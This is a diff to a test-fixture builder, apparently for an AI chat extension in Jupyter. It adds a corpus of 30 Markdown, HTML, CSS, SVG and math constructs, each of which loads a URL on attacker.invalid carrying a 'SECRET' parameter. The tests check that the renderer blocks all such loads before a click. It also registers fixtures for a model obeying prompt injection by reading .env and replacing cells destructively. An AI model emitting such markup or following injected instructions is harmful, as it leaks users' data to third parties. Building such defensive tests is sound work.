@@ -222,6 +222,76 @@ HYPOTHESIS_WEALTH_RACE = {
 }
 
 
+# Every way an answer could make the browser load something from another origin. The test
+# routes attacker.invalid and counts requests; nothing may be asked for before a click.
+PIXEL_PNG = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAQAAAC1HAwCAAAAC0lEQVR42mNkYAAAAAYAAjCB0C8AAAAASUVORK5CYII="
+EVIL = "http://attacker.invalid"
+REMOTE_CONTENT_TEXT = f"""Remote content corpus (nothing may load before a click):
+
+1. ![markdown image]({EVIL}/md-image.png?d=SECRET)
+
+2. ![reference image][leak]
+
+[leak]: {EVIL}/ref-image.png?d=SECRET
+
+3. <img src="{EVIL}/img-src.png?d=SECRET" alt="html image">
+
+4. <img srcset="{EVIL}/img-srcset.png?d=SECRET 1x, {EVIL}/img-srcset2.png 2x" alt="srcset image">
+
+5. <picture><source srcset="{EVIL}/picture-source.png?d=SECRET"><img src="data:image/png;base64,{PIXEL_PNG}" alt="picture fallback"></picture>
+
+6. <video src="{EVIL}/video-src.mp4?d=SECRET" autoplay muted></video>
+
+7. <video poster="{EVIL}/video-poster.png?d=SECRET" controls></video>
+
+8. <audio src="{EVIL}/audio-src.mp3?d=SECRET" autoplay></audio>
+
+9. <video autoplay muted><source src="{EVIL}/source-src.mp4?d=SECRET" type="video/mp4"><track src="{EVIL}/track-src.vtt?d=SECRET" default></video>
+
+10. <input type="image" src="{EVIL}/input-image.png?d=SECRET" alt="input image">
+
+11. <div style="background-image:url({EVIL}/style-bg.png?d=SECRET)">background-image</div>
+
+12. <span style="color: red; background: url('{EVIL}/style-background.png?d=SECRET') no-repeat">background shorthand</span>
+
+13. <ul style="list-style-image:url({EVIL}/list-style.png?d=SECRET)"><li>list-style-image</li></ul>
+
+14. <span style="cursor:url({EVIL}/cursor.png?d=SECRET), auto">cursor</span>
+
+15. <div style="background-image:u\\72l({EVIL}/style-escaped.png?d=SECRET)">escaped url</div>
+
+16. <style>@import url({EVIL}/style-import.css?d=SECRET); .jp-Claude-turnBody {{ background: url({EVIL}/style-tag.png?d=SECRET) }}</style>
+
+17. <link rel="stylesheet" href="{EVIL}/link.css?d=SECRET"><link rel="prefetch" href="{EVIL}/link-prefetch?d=SECRET">
+
+18. <object data="{EVIL}/object.bin?d=SECRET"></object>
+
+19. <embed src="{EVIL}/embed.bin?d=SECRET">
+
+20. <iframe src="{EVIL}/iframe.html?d=SECRET"></iframe>
+
+21. <svg width="10" height="10"><image href="{EVIL}/svg-image.png?d=SECRET" width="10" height="10"/><image xlink:href="{EVIL}/svg-xlink.png?d=SECRET" width="10" height="10"/><use href="{EVIL}/svg-use.svg?d=SECRET#a"/><rect width="5" height="5" fill="url({EVIL}/svg-fill.svg?d=SECRET#p)"/></svg>
+
+22. <a href="{EVIL}/link-target?d=SECRET" ping="{EVIL}/ping?d=SECRET">a link with ping</a> and [a Markdown link]({EVIL}/md-link?d=SECRET)
+
+23. <table background="{EVIL}/table-background.png?d=SECRET"><tr><td background="{EVIL}/td-background.png?d=SECRET">background attribute</td></tr></table>
+
+24. ![protocol-relative](//attacker.invalid/protocol-relative.png?d=SECRET)
+
+25. <img src="  {EVIL}/img-spaces.png?d=SECRET  " alt="spaces"> <IMG SRC="{EVIL}/img-upper.png?d=SECRET" ALT="upper case"> <img src="/\\\\attacker.invalid/img-backslash.png?d=SECRET" alt="backslash"> <img src="https://attacker.invalid/img-https.png?d=SECRET" loading="lazy" alt="lazy">
+
+26. <base href="{EVIL}/base/"><img src="after-base.png" alt="relative after base">
+
+27. <meta http-equiv="refresh" content="0;url={EVIL}/meta-refresh?d=SECRET">
+
+28. <svg width="10" height="10"><image width="10" height="10"><set attributeName="href" to="{EVIL}/svg-set.png?d=SECRET"/></image></svg>
+
+29. Math: $\\style{{background-image:url({EVIL}/math-style.png?d=SECRET)}}{{x}}$ and $\\require{{html}}\\style{{background-image:url({EVIL}/math-require.png?d=SECRET)}}{{y}}$
+
+30. A data image is fine: ![pixel](data:image/png;base64,{PIXEL_PNG})
+"""
+
+
 def fixture(name: str, description: str, sse: Optional[str] = None, **extra: Any) -> Dict[str, Any]:
     spec: Dict[str, Any] = {
         "description": description,
@@ -425,6 +495,18 @@ def build(out: Path) -> None:
         "prompt_injection_obeyed",
         "A model obeying injected instructions: run_cell, reads out of the root and of .env, and a destructive replace_cell.",
         "prompt_injection_obeyed.sse",
+    )
+
+    # A model answer that tries every way to load from another origin (prompt injection).
+    remote = [message_start("msg_01RemoteContent000000001", 900, cache_read=600)]
+    remote += text_block(0, REMOTE_CONTENT_TEXT, 60) + ending("end_turn", 1400, 900, cache_read=600)
+    write_sse(out / "remote_content.sse", remote)
+    specs["remote_content"] = fixture(
+        "remote_content",
+        "An answer loading from attacker.invalid in 30 ways: Markdown and HTML images, srcset, media, CSS url(), "
+        "style, link, object, embed, iframe, SVG, ping, background=, protocol-relative, base, meta refresh, math.",
+        "remote_content.sse",
+        event_delay_ms=5,
     )
 
     for name, spec in specs.items():
